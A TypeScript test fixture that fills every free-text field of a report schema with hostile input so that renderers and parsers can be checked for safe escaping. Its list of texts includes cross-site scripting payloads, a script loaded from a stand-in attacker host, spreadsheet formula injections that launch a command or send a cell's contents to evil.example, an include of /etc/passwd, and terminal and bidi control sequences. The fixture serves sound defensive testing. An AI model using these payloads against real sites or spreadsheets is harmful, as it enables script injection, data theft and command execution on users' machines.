/**
 * Reports in which every text from a person or file is hostile. All of them are valid: only fields that the
 * schema leaves free are replaced, not ids of elements and practices, dates or states.
 *
 * Longer than 200 lines: a report with hostile text in every place, and the texts.
 */
import type {
  ElementResult,
  Move,
  PatternReason,
  QuestionResult,
  ReportDocument,
} from '#domain/types/report.ts';
import { readYamlFile } from '../../support/report/read-yaml.ts';
import { hostileTexts as hostileToChecks } from '../check/hostile-report.ts';

const ownTexts: readonly (readonly [name: string, text: string])[] = [
  ['script tags', '<script>alert(1)</script><script src=//evil.example/x.js></script>'],
  ['event handlers', '<img src=x onerror=alert(1)><svg onload=alert(1)><details open ontoggle=alert(1)>x'],
  ['attributes', `" onmouseover="alert(1)" style="position:fixed;inset:0" x=' autofocus onfocus='alert(1)`],
  ['a javascript: address', 'javascript:alert(1)'],
  ['an address in disguise', ' JaVa\tScRiPt:alert(1)//https://evil.example'],
  ['a data: address', 'data:text/html,<script>alert(1)</script>'],
  [
    'an address that breaks out',
    `https://evil.example/)"><img/src=x/onerror=alert(1)>[x](y)|\`\\*_~$&lt;'{}`,
  ],
  ['an address with a name in it', 'https://bank.example@evil.example/'],
  [
    'elements',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>*{display:none}</style><base href=//evil.example>' +
      '<meta http-equiv=refresh content="0;url=//evil.example"><form action=//evil.example><button>x</button></form>',
  ],
  [
    'ends',
    '--> ]]> </title></style></script></textarea></summary></details></svg><script>alert(1)</script><!--',
  ],
  [
    'entities',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt; &nbsp;&copy',
  ],
  [
    'templates',
    '{{7*7}} ${alert(1)} {count} {name} {score} %s %d %{project_name} \\u003cscript\\u003e \\n $& $1',
  ],
  ['a page of Markdown', makeMarkdownPage()],
  ['a table of Markdown', '| a | b |\n| --- | --- |\n| c | d |\n\\| \\\\| \\\\\\| ` | `` | a\\'],
  [
    'references',
    '@everyone @org/team #123 !456 GH-1 PROJ-12 user/repo#1 user/repo@a5c3785ed8d6a35868bc169f07e40e889087fd2e ' +
      '0a5c3785ed8d6a35868bc169f07e40e889087fd2e %milestone %"big one" ~label ~"two words" $123 &epic &42 ^alert#1 ' +
      '[issue:1] [[_TOC_]] [[wiki page]] [!NOTE] :smile: :+1: www.evil.example a@evil.example https://evil.example ' +
      'ftp://evil.example mailto:a@evil.example CVE-2020-1234 GHSA-aaaa-bbbb-cccc {+in+} [-out-] closes #1',
  ],
  ['formulas of TeX', '$x^2$ $$y$$ $`z`$ $5 and $6 ```math\nx\n``` \\(a\\) \\[b\\]'],
  ['orders to a forge', '/close\n/assign @root\n::include{file=/etc/passwd}\n>>>\nquoted\n>>>\n/label ~x'],
  ['front matter', '---\ntitle: pwned\n---\n# pwned'],
  ['a footnote', 'x[^1]\n\n[^1]: pwned\n\n[pwned]: javascript:alert(1)\n\n[pwned]'],
  ['a formula', `=cmd|' /C calc'!A0`],
  ['a formula with a link', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
  ['a formula behind a plus', `+1+cmd|' /C calc'!A0`],
  ['a formula behind a minus', `-2+3+cmd|' /C calc'!A0`],
  ['a formula behind an at', '@SUM(A1:A9)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a return', '\r=1+1'],
  ['a formula in full width', '＝1+1'],
  ['formulas in the middle', '",=1+1,"\nfine;=1+1\t=1+1\r\n=1+1\n;@SUM(A1)'],
  ['a number to keep', '007'],
  ['a number with an exponent', '1e5'],
  ['a date', '3-4'],
  [
    'a terminal',
    '\u001b[31mred\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b2J\u0008\u0000\u007f',
  ],
  ['bidi controls', '\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark\u061c'],
  ['what nobody sees', 'zero\u200bwidth\u200d \u2060\ufeff soft\u00adhyphen \u3164\u115f \u{e0041}\u{e007f}'],
  ['Hebrew and Arabic', 'שלום עולם, מערכת המכירות 2026 (חדש)! مرحبا بالعالم، ٤٢ بائعًا'],
  [
    'Chinese and Japanese',
    '御社の販売体制はどれほど完成していますか。我们的销售流程没有人遵守，｜＜＞＆'.repeat(6),
  ],
  ['signs on signs', `Z${'\u0335\u0361\u0489'.repeat(40)}algo 👩‍👩‍👧‍👦👍🏽🇩🇪 e\u0301`],
  ['halves of characters', '\ud800 lone \udfff\udbff'],
  ['names of every object', '__proto__'],
  ['many lines', 'One of many lines that a person wrote.\n'.repeat(256)],
  ['many signs', '<'.repeat(2_000)],
];

function makeMarkdownPage(): string {
  return [
    '# heading',
    'Title',
    '===',
    '---',
    '***',
    '> quote',
    '- [x] task',
    '1. list',
    '+ list',
    '    indented',
    '\tindented',
    '```js',
    'code',
    '~~~',
    '**bold** __bold__ *em* _em_ ~~gone~~ `code` ==mark==',
    '[x](javascript:alert(1)) ![i](https://evil.example/p.png) <https://evil.example> <a@evil.example>',
    '[r]: https://evil.example',
    '',
    '<b>bold</b>',
    '',
    '</details>',
    '',
    '<summary>pwned</summary>',
    'hard  ',
    'break\\',
    'end',
  ].join('\n');
}

/** Texts that try to break out of a format, run, hide or overflow, by name, including those of `check`. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
  ...ownTexts,
  ...hostileToChecks.map((text, index) => [`text ${index + 1} of check`, text] as const),
];

/** Takes the first items of each group, up to a number. */
function takeFirst<T>(items: readonly T[], most: number, openGroup: (item: T) => unknown): T[] {
  const counts = new Map<unknown, number>();
  return items.filter((item) => {
    const count = (counts.get(openGroup(item)) ?? 0) + 1;
    counts.set(openGroup(item), count);
    return count <= most;
  });
}

/**
 * Shortens a report to what renderings draw differently: two blocks, one practice of each, two of the first element and
 * one of each other element. A practice has one question, but for the first, whose questions are replaced below. Of the
 * rest, two findings of each severity, three gaps, and four patterns, the last of which renderings show by name. Every field
 * that can contain text still occurs at least twice, or as often as in the whole report. Rendering and parsing the
 * result takes a fifth of the time.
 */
function shorten(report: ReportDocument): ReportDocument {
  const elements = report.elements.map((element, place) => {
    const blocks = element.blocks.slice(0, 2);
    const practices =
      blocks.length === 0
        ? element.practices.slice(0, place === 0 ? 2 : 1)
        : takeFirst(element.practices, 1, ({ block }) => block).slice(0, 2);
    return {
      ...element,
      blocks,
      practices: practices.map((practice, index) => ({
        ...practice,
        questions: practice.questions.slice(0, place === 0 && index === 0 ? 2 : 1),
      })),
    };
  });
  const stays = new Set(elements.flatMap(({ practices }) => practices.map(({ id }) => id)));
  const asked = new Set(
    elements.flatMap(({ practices }) => practices.flatMap(({ questions }) => questions.map(({ id }) => id))),
  );
  const question = elements[0]?.practices[0]?.questions[0]?.id ?? '';
  return {
    ...report,
    summary: {
      ...report.summary,
      ...(report.summary.surprise && { surprise: { ...report.summary.surprise, question } }),
    },
    elements,
    patterns: report.patterns.slice(0, 4),
    gaps: report.gaps
      .filter(({ practice }) => stays.has(practice))
      .slice(0, 3)
      .map((gap) => ({
        ...gap,
        blockedBy: gap.blockedBy.filter((practice) => stays.has(practice)),
        drivers: gap.drivers.filter((driver) => asked.has(driver.question)),
      })),
    plan: {
      now: report.plan.now.slice(0, 1),
      next: report.plan.next.slice(0, 2),
      later: report.plan.later.slice(0, 2),
      after: report.plan.after,
      roads: report.plan.roads.map(({ element, practices }) => ({
        element,
        practices: practices?.filter((practice) => stays.has(practice)) ?? null,
      })),
    },
    findings: takeFirst(report.findings, 2, ({ severity }) => severity),
  };
}

const example = shorten(readYamlFile('test/fixtures/reports/harbor-instruments.yaml') as ReportDocument);

/** Keys with values that the schema fixes: enumerations, dates, digests and ids with a pattern. */
const fixed: ReadonlySet<string> = new Set(
  (
    'kind name:generator asOf until digest role scope status state severity move bestAnsweredBy date element practice block ' +
    'reason blockedBy neglected unknown weakest customers position against check:surprise practices:roads id:elements id:blocks id:practices id:patterns'
  ).split(' '),
);

/** Maximum length that the schema allows, by key. Notes have 10,000 characters, other keys are unlimited. */
const mostCharacters: Readonly<Record<string, number>> = {
  'name:organization': 300,
  respondent: 300,
  revenue: 300,
  profit: 300,
  share: 300,
  seenBy: 300,
  what: 2_000,
  ref: 2_000,
};

/** Fields that must not be empty. */
const neverEmpty: ReadonlySet<string> = new Set(['name:organization', 'respondent', 'seenBy', 'what', 'ref']);

/** Maximum length of unlimited texts, so that reports have a realistic size. */
const enough = 400;

/** Texts that a person can write as long as they like. */
const unlimited: ReadonlySet<string> = new Set(['note', 'closing', 'first', 'again', 'spread']);

/** Returns the maximum length that the schema allows for a text. Undefined if it is unlimited. */
function findLimit(key: string, named: string): number | undefined {
  return mostCharacters[named] ?? mostCharacters[key];
}

function cut(text: string, key: string, named: string, most: number): string {
  const short = text.length <= most ? text : [...text].slice(0, most).join('');
  return short === '' && (neverEmpty.has(key) || neverEmpty.has(named) || mostCharacters[key] === 300)
    ? ' '
    : short;
}

/** Returns the replacement of a text, given its key and the key of its parent. */
type TextFor = (key: string, named: string) => string;

/** Replaces every free text in a value. Lists and maps keep their shape. */
function replaceTexts(
  value: unknown,
  textFor: TextFor,
  ids: (id: string) => string,
  path: readonly string[],
): unknown {
  const key = path.at(-1) ?? '';
  if (Array.isArray(value)) return value.map((item) => replaceTexts(item, textFor, ids, path));
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(
      Object.entries(value).map(([name, part]) => [name, replaceTexts(part, textFor, ids, [...path, name])]),
    );
  if (typeof value !== 'string') return value;
  const named = `${key}:${path.at(-2) ?? ''}`;
  // A question has the same id where a pattern rests on it; scores and the balance are found by ids that stay.
  const isQuestion = named === 'id:because' && value.split('.').length === 3;
  if (named === 'id:questions' || key === 'question' || isQuestion) return ids(value);
  if (named === 'id:because' && !value.includes('/')) return value;
  return fixed.has(key) || fixed.has(named) ? value : textFor(key, named);
}

const clearLevel = (question: QuestionResult, state: QuestionResult['state']): QuestionResult => ({
  ...question,
  state,
  level: null,
  label: null,
  shownLevel: null,
  answer: null,
  note: 'A note.',
  ...(state === 'not-applicable' && { reason: 'out-of-scope' }),
});

/** The example with every state of an answer, kind of move and optional field. */
function makeFullReport(): ReportDocument {
  const [first, ...others] = example.elements;
  const [practice, ...practices] = first?.practices ?? [];
  const [question, second, third = second, ...questions] = [
    ...(practice?.questions ?? []),
    ...(practices.at(-1)?.questions ?? []),
  ];
  const [close] = example.plan.now;
  if (!first || !practice || !question || !second || !third || !close)
    throw new Error('The example has too little in it.');
  const evidence = {
    date: '2026-01-02',
    what: 'A list',
    ref: 'docs/list.md',
    seenBy: 'Ana',
    stale: true,
  } as const;
  const answered = `${question.id}-shown`;
  const because: PatternReason[] = [
    { id: 'balance', level: 1 },
    { id: first.id, level: 1 },
    { id: answered, level: question.level ?? 0 },
    { id: answered, level: 0, where: 'South' },
    { id: 'system/some-check', fails: true },
  ];
  const element: ElementResult = {
    ...first,
    practices: [
      {
        ...practice,
        questions: [
          clearLevel(question, 'unknown'),
          clearLevel(second, 'not-applicable'),
          { ...clearLevel(third, 'unanswered'), id: `${third.id}-open` },
          {
            ...question,
            id: answered,
            lowest: { level: 0, where: 'South' },
            guess: true,
            note: 'A note.',
            evidence: (['artifact', 'instance', 'affirmation'] as const).map((kind) => ({
              ...evidence,
              kind,
            })),
          },
          ...questions.map((each) => ({ ...each, id: `${each.id}-more` })),
        ],
      },
      ...practices,
    ],
  };
  const about = { element: first.id, practice: practice.id, name: practice.name, because: 'For a reason.' };
  const ask = [{ question: question.id, ask: question.ask, bestAnsweredBy: 'seller' }] as const;
  const attach = [{ question: question.id, kind: 'artifact', what: 'A list' }] as const;
  const now: Move[] = [
    close,
    { ...about, move: 'find-out', practice: null, ask: [...ask] },
    { ...about, move: 'prove', attach: [...attach] },
  ];
  return {
    ...example,
    summary: { ...example.summary, unknown: [], provisional: true },
    elements: [element, ...others],
    patterns: example.patterns.map((pattern) => ({
      ...pattern,
      because,
      firstMove: 'A first move.',
      sources: ['A study.'],
    })),
    gaps: example.gaps.map((gap, index) => ({ ...gap, blockedBy: index === 0 ? [] : [practice.id] })),
    plan: { ...example.plan, now },
    opening: { first: 'First.', again: 'Again.' },
    closing: 'Closing.',
  };
}

const full = makeFullReport();

/** Returns a valid report with every free text replaced. Ids of questions stay consistent. */
function reportWith(textFor: TextFor): ReportDocument {
  const ids = new Map<string, string>();
  const replaceId = (id: string): string => {
    const known = ids.get(id) ?? `${textFor('id', 'id:questions')} ${ids.size + 1}`;
    ids.set(id, known);
    return known;
  };
  return replaceTexts(full, textFor, replaceId, []) as ReportDocument;
}

/** Returns a valid report with this text in every free field. */
export function makeReportSaying(text: string): ReportDocument {
  // The first text of each kind is as long as it may be. The others take the same way: a text that repeats itself is only
  // longer than a line there.
  const others = text.length > 1_000 ? 120 : enough;
  const said = new Set<string>();
  return reportWith((key, named) => {
    const limit = findLimit(key, named) ?? (unlimited.has(key) ? 10_000 : enough);
    const most = said.has(named) ? Math.min(limit, others) : limit;
    said.add(named);
    return cut(text, key, named, most);
  });
}

/** Returns a valid report in which all texts differ, and these texts with their keys. */
export function makeReportOfDifferentTexts(): {
  readonly report: ReportDocument;
  readonly texts: readonly { readonly text: string; readonly key: string }[];
} {
  const texts: { text: string; key: string }[] = [];
  const report = reportWith((_key, named) => {
    const text = `Text${texts.length}.`;
    texts.push({ text, key: named });
    return text;
  });
  return { report, texts };
}

/** A report for each hostile text, by the name of the text. */
export const hostileReports: readonly (readonly [name: string, report: ReportDocument])[] = hostileTexts.map(
  ([name, text]) => [name, makeReportSaying(text)] as const,
);

/** Number of mixed reports. */
const mixes = 6;

/**
 * Reports that mix all hostile texts, for tests in a browser, which takes ten times as long for a page as a parser. From one
 * report to the next, every place gets another text.
 */
export const mixedReports: readonly (readonly [name: string, report: ReportDocument])[] = Array.from(
  { length: mixes },
  (_, mix) => {
    let place = Math.round((mix * hostileTexts.length) / mixes);
    const report = reportWith((key, named) => {
      const [, text = ''] = hostileTexts[place % hostileTexts.length] ?? [];
      place += 1;
      return cut(text, key, named, findLimit(key, named) ?? enough);
    });
    return [`mix ${mix + 1}`, report] as const;
  },
);
